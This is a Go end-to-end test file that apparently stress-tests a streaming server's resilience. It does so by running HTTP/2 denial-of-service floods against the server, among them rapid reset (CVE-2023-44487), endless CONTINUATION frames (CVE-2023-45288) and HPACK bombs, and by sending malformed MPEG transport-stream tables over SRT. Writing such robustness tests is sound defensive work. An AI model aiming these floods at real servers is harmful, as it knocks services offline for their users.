package e2e

import (
	"bytes"
	"encoding/binary"
	"io"
	"net"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"pushcart/internal/testkit"
)

// h2 is a client of HTTP/2 (RFC 9113) that does what it likes.
type h2 struct {
	net.Conn
	*http2.Framer
	header  bytes.Buffer
	encoder *hpack.Encoder
}

// openH2 connects and sends the preface with settings.
func (s *siege) openH2(d *door, way string, receive int, settings ...http2.Setting) (*h2, error) {
	c, err := s.enter(d, way, receive, "h2")
	if err != nil {
		return nil, err
	}
	x := &h2{Conn: c, Framer: http2.NewFramer(c, c)}
	x.encoder = hpack.NewEncoder(&x.header)
	x.AllowIllegalWrites = true
	c.SetDeadline(time.Now().Add(5 * time.Second))
	if _, err = io.WriteString(c, http2.ClientPreface); err == nil {
		err = x.WriteSettings(settings...)
	}
	if err != nil {
		c.Close()
		return nil, err
	}
	return x, nil
}

// request is the block of a GET's header.
func (x *h2) request(path string) []byte {
	x.header.Reset()
	for _, f := range [][2]string{{":method", "GET"}, {":scheme", "http"}, {":authority", "x"}, {":path", path}} {
		// A buffer takes everything.
		_ = x.encoder.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	return bytes.Clone(x.header.Bytes())
}

// floodFrames is how many frames a flood has, when nobody ends it.
const floodFrames = 20000

// floods of HTTP/2: each writes until the node ends the connection, or it has written enough.
func floods(s *siege, d *door, way string) {
	all := []func(x *h2, i int) error{
		func(x *h2, i int) error { // rapid reset (CVE-2023-44487)
			if err := x.WriteHeaders(http2.HeadersFrameParam{StreamID: uint32(2*i + 1), BlockFragment: x.request("/live/evening/index.m3u8"), EndStream: true, EndHeaders: true}); err != nil {
				return err
			}
			return x.WriteRSTStream(uint32(2*i+1), http2.ErrCodeCancel)
		},
		func(x *h2, i int) error { // a header that never ends (CVE-2023-45288)
			if i == 0 {
				return x.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: x.request("/")})
			}
			return x.WriteContinuation(1, false, bytes.Repeat([]byte{0, 1, 'a', 1, 'b'}, 3000))
		},
		func(x *h2, _ int) error { return x.WriteContinuationAt(0) },
		func(x *h2, _ int) error { return x.WritePing(false, [8]byte{}) },
		func(x *h2, _ int) error {
			return x.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize, Val: 0xFFFFFFFF})
		},
		func(x *h2, i int) error { // streams that are never finished
			return x.WriteHeaders(http2.HeadersFrameParam{StreamID: uint32(2*i + 1), BlockFragment: x.request("/whip/mallory"), EndHeaders: true})
		},
		func(x *h2, i int) error { // a small block that unpacks to much: the table's one entry, again and again
			x.header.Reset()
			_ = x.encoder.WriteField(hpack.HeaderField{Name: "x", Value: string(bytes.Repeat([]byte{'y'}, 3900))})
			block := append(bytes.Clone(x.header.Bytes()), bytes.Repeat([]byte{0x80 | 62}, 12000)...)
			return x.WriteHeaders(http2.HeadersFrameParam{StreamID: uint32(2*i + 1), BlockFragment: block, EndHeaders: true})
		},
		func(x *h2, i int) error {
			return x.WritePriority(uint32(i+1), http2.PriorityParam{StreamDep: uint32(i), Weight: 1})
		},
		func(x *h2, i int) error { return x.WriteWindowUpdate(0, 1<<31-1) },
		func(x *h2, i int) error { return x.WriteData(uint32(2*i+1), false, nil) },
		func(x *h2, _ int) error { return x.WriteRawFrame(http2.FrameHeaders, 0xFF, 1, nil) },
		func(x *h2, i int) error {
			return x.WriteRawFrame(http2.FrameType(100+i%100), 0xFF, uint32(i), make([]byte, 16<<10))
		},
	}
	eachOf(2, len(all), func(i int) {
		x, err := s.openH2(d, way, 0)
		if err != nil {
			return
		}
		var listening sync.WaitGroup
		listening.Go(func() { discard(x) })
		x.SetDeadline(time.Now().Add(2 * time.Second))
		for n := range floodFrames {
			if err := all[i](x, n); err != nil {
				break
			}
		}
		x.Close()
		listening.Wait()
	})
}

// WriteContinuationAt continues a header that was never begun.
func (x *h2) WriteContinuationAt(stream uint32) error {
	return x.WriteRawFrame(http2.FrameContinuation, 0, stream, []byte{0x82})
}

// tables are of transport streams: programs that name one another, sections that never end, as many streams as there can be.
func tables(s *siege, d *door, way string) {
	packet := func(pid int, start bool, payload ...byte) []byte {
		b := []byte{0x47, byte(pid >> 8), byte(pid), 0x10}
		if start {
			b[1] |= 0x40
		}
		b = append(b, payload...)
		return append(b, bytes.Repeat([]byte{0xFF}, max(0, 188-len(b)))...)[:188]
	}
	pat := func(pmt int) []byte { // whose map is at a PID, even its own
		return packet(0, true, 0, 0, 0xB0, 13, 0, 1, 0xC1, 0, 0, 0, 1, 0xE0|byte(pmt>>8), byte(pmt), 0, 0, 0, 0)
	}
	var programs, endless []byte
	for i := range 8000 {
		programs = append(append(programs, pat(i%8192)...), packet(i%8192, true, binary.BigEndian.AppendUint16([]byte{0, 2}, 0xBFFF)...)...)
		endless = append(endless, packet(0x1000, i == 0, append([]byte{0, 2, 0xBF, 0xFF}, make([]byte, 180)...)...)...)
	}
	for _, all := range [][]byte{programs, endless, bytes.Repeat(pat(0), 8000)} {
		s.count(d, way, tally{made: 1, sent: int64(len(all))})
		p, err := testkit.DialSRT(s.t, d.address, testkit.StreamID("mallory", malloryKey), testkit.Show{Name: "mallory"}, nil)
		if err != nil {
			continue // another attack has the name, or the place
		}
		for len(all) > 0 {
			n := min(len(all), 7*188)
			if err := p.Raw(all[:n]); err != nil {
				break
			}
			all = all[n:]
		}
		p.Drop()
	}
}
